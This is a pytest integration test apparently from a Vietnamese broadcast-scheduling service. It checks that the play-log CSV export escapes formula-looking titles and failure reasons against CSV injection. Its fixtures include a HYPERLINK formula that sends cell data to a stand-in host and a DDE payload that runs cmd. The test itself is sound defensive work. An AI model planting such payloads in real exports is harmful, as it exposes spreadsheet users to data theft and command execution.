"""The play-log CSV carries text from devices and officers (titles, failure reasons): no cell may run as a
spreadsheet formula (OWASP CSV injection), on both databases."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from broadcast.services.delivery import stage_schedule
from tests.support.app import HANOI, user

pytestmark = pytest.mark.integration
TITLE = '=HYPERLINK("http://x.example/?d="&A1;"Bản tin")'
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_looking_titles_and_reasons_are_escaped(world, container, client):
    clock = world.clock
    items = [{**world.item("hk-0001", 0), "title": TITLE}, world.item("hk-0001", 1)]
    uow = container.uow()
    with uow:  # version 2 of hk-0001's schedule, with an officer's formula-looking title
        stage_schedule(uow, clock, container.signer, uow.devices.get("hk-0001"), items,
                       horizon_end=clock.now() + timedelta(days=7))
        uow.commit()
    clock.advance(hours=5)
    world.feed(world.ack("hk-0001", "failed", version=2, item_id=items[0]["item_id"], reason=REASON),
               world.ack("hk-0001", "failed", version=2, item_id=items[1]["item_id"], reason="-1+2"))

    admin = user(container, client, "admin", "admin", HANOI)
    response = client.get("/api/v1/playlog", params={"format": "csv"}, headers=admin.headers)
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    by_item = {r["Mã mục"]: r for r in rows}
    first, second = by_item[items[0]["item_id"]], by_item[items[1]["item_id"]]
    assert first["Chương trình"] == "'" + TITLE and first["Lý do"] == "'" + REASON
    assert second["Lý do"] == "'-1+2" and second["Chương trình"] == items[1]["title"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
